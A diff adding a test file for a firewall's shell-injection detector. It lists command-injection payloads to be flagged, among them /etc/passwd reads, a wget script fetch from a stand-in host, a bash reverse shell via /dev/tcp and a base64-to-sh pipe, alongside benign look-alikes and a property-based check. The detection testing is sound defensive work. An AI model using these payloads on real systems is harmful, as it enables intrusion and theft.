@@ -1,0 +1,70 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+
+import { detectShell } from "../../../../../runtime/primitives/waf/detect/shell.ts";
+import { scaled } from "../../../../helpers/scale.ts";
+
+const ATTACKS = [
+  "; cat /etc/passwd",
+  "|id",
+  "$(whoami)",
+  "`id`",
+  "127.0.0.1 && ls -la",
+  "x;wget http://a.example/x.sh",
+  "cat /etc/passwd",
+  "() { :; }; echo x",
+  "a$IFS-b;cat${IFS}/x",
+  "w'h'o'am'i",
+  "/???/??t /x",
+  "bash -i >& /dev/tcp/10.0.0.1/1 0>&1",
+  "| base64 -d | sh",
+  "{cat,/etc/passwd}",
+  "echo $((1234*5678))",
+  "; ping -c 3 127.0.0.1",
+];
+const HONEST = [
+  "a hero; more than that",
+  "O'Brien; drop by at 5",
+  "cat food",
+  "R&D; Q&A",
+  "find my phone",
+  "make it so; sort of",
+  "Run `ls -la` in a shell",
+  "$(document).ready(f)",
+  "time flies",
+  "id;name;date",
+  "a=1&id=5",
+  "tea & sugar | head office",
+  "AT&T",
+];
+
+describe("detectShell", () => {
+  it.each(ATTACKS)("sees a Unix command in %j", (value) => {
+    const finding = detectShell(value);
+    expect(finding?.sign).toMatch(/^[a-z0-9-]+$/);
+    expect(finding!.start).toBeGreaterThanOrEqual(0);
+    expect(finding!.end).toBeGreaterThan(finding!.start);
+    expect(finding!.end).toBeLessThanOrEqual(value.length);
+  });
+
+  it.each(HONEST)("passes %j", (value) => {
+    expect(detectShell(value)).toBeUndefined();
+  });
+
+  it("answers for every string, twice the same", () => {
+    const piece = fc.oneof(
+      fc.string(),
+      fc.constantFrom(...ATTACKS, ...HONEST),
+      fc.constantFrom("'", '"', "<", "$(", "..", "/*", "{{", "\0", "%", "\n"),
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
+        const value = pieces.join("");
+        const finding = detectShell(value);
+        expect(detectShell(value)).toEqual(finding);
+        if (finding !== undefined) expect(finding.end).toBeLessThanOrEqual(value.length);
+      }),
+      { numRuns: scaled(100, 5000) },
+    );
+  });
+});
